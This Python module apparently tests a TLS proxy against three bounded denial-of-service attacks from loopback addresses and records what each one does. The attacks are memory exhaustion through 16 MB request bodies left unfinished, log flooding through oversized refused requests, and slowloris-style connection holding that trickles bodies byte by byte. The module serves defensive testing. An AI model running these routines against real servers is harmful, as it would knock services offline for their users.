"""Three attacks on a proxy by machines without a key, bounded in count and time.

Attackers are addresses of loopback other than 127.0.0.1. Each attack returns figures.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import time
from pathlib import Path

BODY = 16_000_000  # bytes of a whole body, as the proxy of before let through on every path


def rss(pids) -> int:
    """Bytes of memory that these processes hold."""
    page = os.sysconf("SC_PAGE_SIZE")
    found = 0
    for pid in pids:
        with contextlib.suppress(OSError):
            found += int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * page
    return found


class Attacker:
    """Connections to a proxy from addresses of its own."""

    def __init__(self, port: int, ca: Path) -> None:
        self.port, self.ca, self.tls = port, ca, ssl.create_default_context(cafile=ca)
        self.open: list[ssl.SSLSocket] = []

    def connect(self, address: str) -> ssl.SSLSocket:
        plain = socket.create_connection(("127.0.0.1", self.port), 10, (address, 0))
        plain.settimeout(5)
        return self.tls.wrap_socket(plain, server_hostname="localhost")

    def head(self, path: str, length: int, more: str = "") -> bytes:
        return (
            f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/protobuf\r\n"
            f"{more}Content-Length: {length}\r\n\r\n"
        ).encode("latin-1")

    def close(self) -> None:
        for link in self.open:
            with contextlib.suppress(OSError):
                link.close()
        self.open = []

    def answer(self, address: str, request: bytes) -> int:
        """The status of the answer to a whole request, 0 for none."""
        with contextlib.suppress(OSError), self.connect(address) as link:
            link.sendall(request)
            return status_of(link.recv(65536))
        return 0

    def hold(self, address: str, request: bytes, body: int) -> bool:
        """Send a request whose body never ends; whether the proxy takes it."""
        try:
            link = self.connect(address)
            link.settimeout(2)
            self.open.append(link)
            link.sendall(request)
            sent, piece = 0, bytes(65536)
            while sent < body:
                link.sendall(piece[: body - sent])
                sent += len(piece)
        except OSError:
            return False
        return True

    def still_held(self) -> int:
        """Of the requests that were begun, those that wait for the rest of their body."""
        held = 0
        for link in self.open:
            link.settimeout(0.0)
            try:
                link.recv(1)
            except ssl.SSLWantReadError:
                held += 1
            except OSError:
                pass
        return held


def status_of(answer: bytes) -> int:
    return int(answer.split()[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def fill_memory(
    attacker: Attacker, pids, path: str, size: int = BODY, count: int = 40
) -> dict[str, float]:
    """Bodies that are sent nearly whole, and then no more."""
    before = rss(pids())
    for _ in range(count):
        attacker.hold("127.0.0.2", attacker.head(path, size), size - 1)
    held = attacker.still_held()
    return {"held": held, "MB": round((rss(pids()) - before) / 1e6)}


def fill_log(attacker: Attacker, log: Path, count: int = 400) -> dict[str, float]:
    """Requests that are refused, each as long as can be."""
    before = log_bytes(log)
    long = "\x01" * 7900
    statuses = []
    for i in range(count):
        more = f"Referer: {long}\r\nUser-Agent: {long}\r\n"
        path = "/" + "\xff" * 7900
        statuses.append(attacker.answer(f"127.0.0.{2 + i % 9}", attacker.head(path, 0, more)))
    time.sleep(0.5)
    return {"refused": len(statuses), "MB": (log_bytes(log) - before) / 1e6}


def log_bytes(log: Path) -> int:
    return sum(p.stat().st_size for p in log.parent.glob(f"{log.name}*"))


def shut_out(
    attacker: Attacker, path: str, served, addresses: int = 11, each: int = 190, seconds: float = 20
) -> dict[str, float]:
    """Bodies that come by the byte, from several addresses; `served` asks as another machine."""
    head = attacker.head(path, 5000)
    for a in range(addresses):
        for _ in range(each):
            attacker.hold(f"127.0.1.{a + 1}", head + b"x", 0)
    held = attacker.still_held()
    end, good, asked = time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        asked += 1
        good += served()
        for link in attacker.open:
            with contextlib.suppress(OSError):
                link.settimeout(0.05)
                link.sendall(b"x")
        time.sleep(0.5)
    return {"held": held, "held at the end": attacker.still_held(), "asked": asked, "served": good}
